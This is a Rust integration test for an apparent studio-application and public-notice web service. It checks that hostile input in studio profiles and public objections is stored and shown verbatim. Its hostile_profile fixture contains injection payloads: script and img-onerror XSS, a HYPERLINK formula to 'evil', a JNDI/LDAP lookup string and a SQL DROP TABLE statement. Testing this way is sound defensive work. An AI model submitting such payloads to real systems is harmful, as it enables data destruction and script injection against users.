//! Injection in the public notice and its objections: hostile text is stored and shown verbatim.

use super::{
    Field, HRSS, YC, answer, payloads, short, sorted, studio_count, too_long_for, unless_refused,
};
use crate::helpers::{
    Session, TestApp, facts, id, new_application, spawn_app_in_round, validation_fields, version,
};
use serde_json::{Value, json};

const YC_BUREAU: &str = "yc.bureau";

/// Submits `body` as `applicant`, asserting it is accepted; returns the submitted view.
async fn submitted_with(app: &TestApp, applicant: &Session, body: &Value) -> Value {
    let draft = app.create_application(applicant, body).await;
    app.submit(applicant, &draft).await
}

/// A notice from 2026-10-15 to 2026-10-21 (the clock's day is 2026-10-15) proposing one studio
/// whose profile is `profile`: yc.saishang's and yc.ningdong's applications of a 1-slot 2027 round were
/// recommended, defended and inspected, and that one passed. Returns the notice and the
/// application.
async fn running_notice(app: &TestApp, hrss: &Session, profile: Value) -> (i64, i64) {
    let round = json!({
        "year": 2027, "title": "2027年度技能大师工作室申报（提前受理）",
        "opens_on": "2026-10-01", "closes_on": "2027-12-31",
        "regional_slots": 1, "national_slots": 0
    });
    let (status, round) = answer(app.post_as(hrss, "/api/rounds", &round).await).await;
    assert_eq!(status, 201, "{round}");
    let round = round["id"].as_i64().expect("round id");
    let yc = app.login(YC).await;
    let mut proposed = new_application(round, facts("enterprise"));
    proposed["profile"] = profile;
    let proposed = id(&submitted_with(app, &yc, &proposed).await);
    let other = new_application(round, facts("enterprise"));
    let other = id(&submitted_with(app, &app.login("yc.ningdong").await, &other).await);
    let ranked = app
        .recommended(&app.login(YC_BUREAU).await, round, &[proposed, other])
        .await;
    for (view, points) in ranked.iter().zip([88.5, 79.0]) {
        let started = app.act(hrss, view, "start_defense", json!({})).await;
        let score = json!({ "version": version(&started), "score": points });
        let path = format!("/api/applications/{}/defense-score", id(&started));
        let (status, scored) = answer(app.post_as(hrss, &path, &score).await).await;
        assert_eq!(status, 200, "{scored}");
    }
    let inspection = json!({ "level": "regional", "candidates": [proposed, other] });
    let path = format!("/api/rounds/{round}/inspection");
    let (status, list) = answer(app.post_as(hrss, &path, &inspection).await).await;
    assert_eq!(status, 200, "{list}");
    let (_, view) = answer(app.application(hrss, proposed).await).await;
    let result = json!({ "version": version(&view), "passed": true, "notes": "" });
    let path = format!("/api/applications/{proposed}/inspection-result");
    let (status, inspected) = answer(app.post_as(hrss, &path, &result).await).await;
    assert_eq!(status, 200, "{inspected}");
    let notice = json!({ "starts_on": "2026-10-15", "applications": [proposed] });
    let path = format!("/api/rounds/{round}/notices");
    let (status, notice) = answer(app.post_as(hrss, &path, &notice).await).await;
    assert_eq!(status, 201, "{notice}");
    (notice["id"].as_i64().expect("notice id"), proposed)
}

/// A studio profile of HTML, SQL and formulas that still may be submitted.
fn hostile_profile() -> Value {
    json!({
        "studio_name": "<script>alert(1)</script>",
        "leader_name": "<img src=x onerror=alert(1)>",
        "occupation": "=HYPERLINK(\"http://evil\",\"x\")",
        "industry": "${jndi:ldap://x}",
        "plan": "'); DROP TABLE studio; --",
        "leader_id_number": crate::helpers::id_number("1975-03-10")
    })
}

/// The texts of a public objection and their limits (`shared::procedure::NewObjection`).
const OBJECTION_FIELDS: [Field; 3] = [("name", 64), ("contact", 128), ("text", 5000)];

fn hostile_objection(notice: i64, application: i64, text: &str, refused: &[String]) -> Value {
    json!({
        "notice_id": notice, "application_id": application,
        "name": unless_refused("name", refused, text, "张三"),
        "contact": unless_refused("contact", refused, text, "13909510000"),
        "text": unless_refused("text", refused, text, "该工作室领办人长期不在生产一线。"),
    })
}

#[tokio::test]
async fn the_public_notice_and_its_objections_keep_hostile_text_verbatim() {
    // Arrange
    let (app, clock) = spawn_app_in_round().await;
    let hrss = app.login(HRSS).await;
    let studios = studio_count(&app, &hrss).await;
    let (notice, proposed) = running_notice(&app, &hrss, hostile_profile()).await;
    let mut filed = Vec::new();

    for text in payloads() {
        let refused_fields = too_long_for(&text, &OBJECTION_FIELDS);
        if !refused_fields.is_empty() {
            let all_hostile = hostile_objection(notice, proposed, &text, &[]);
            let response = app.post_json("/api/public/objections", &all_hostile).await;
            assert_eq!(
                sorted(validation_fields(response).await),
                refused_fields,
                "{}",
                short(&text)
            );
        }
        let sent = hostile_objection(notice, proposed, &text, &refused_fields);

        // Act
        let (status, receipt) = answer(app.post_json("/api/public/objections", &sent).await).await;

        // Assert
        assert_eq!(status, 201, "{}: {receipt}", short(&text));
        filed.push((receipt["id"].as_i64().expect("objection id"), sent));
        // One address files at most 5 objections an hour.
        clock.advance(chrono::Duration::minutes(13));
    }
    let hrss = app.login(HRSS).await;
    let (status, objections) = answer(app.get_as(&hrss, "/api/objections").await).await;
    assert_eq!(status, 200, "{objections}");
    let objections = objections.as_array().expect("not an array");
    for (objection, sent) in &filed {
        let read = objections
            .iter()
            .find(|o| o["id"] == *objection)
            .unwrap_or_else(|| panic!("objection {objection} is not listed"));
        for field in ["name", "contact", "text"] {
            assert_eq!(read[field], sent[field], "{field} of {read}");
        }
    }
    let (status, public) = answer(app.get("/api/public/notices").await).await;
    assert_eq!(status, 200, "{public}");
    let entry = &public[0]["entries"][0];
    assert_eq!(entry["application_id"], proposed, "{public}");
    for field in ["studio_name", "leader_name", "occupation"] {
        assert_eq!(entry[field], hostile_profile()[field], "{field} of {entry}");
    }
    assert_eq!(studio_count(&app, &hrss).await, studios);
}
